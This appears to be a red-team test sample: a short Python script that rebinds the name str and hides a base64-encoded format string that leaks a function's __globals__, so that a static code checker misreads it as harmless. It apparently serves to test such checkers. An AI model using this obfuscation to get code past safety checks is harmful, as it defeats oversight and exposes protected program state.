# family: red team, round 59a (rebinding str via with_tuple so the checker folds str(...) wrongly)
import base64


def probe():
    return 1


import contextlib
with contextlib.nullcontext((lambda s: base64.b64decode("ezAuX19nbG9iYWxzX199").decode(), 1)) as (str, y):
    print(str("x").format(probe))
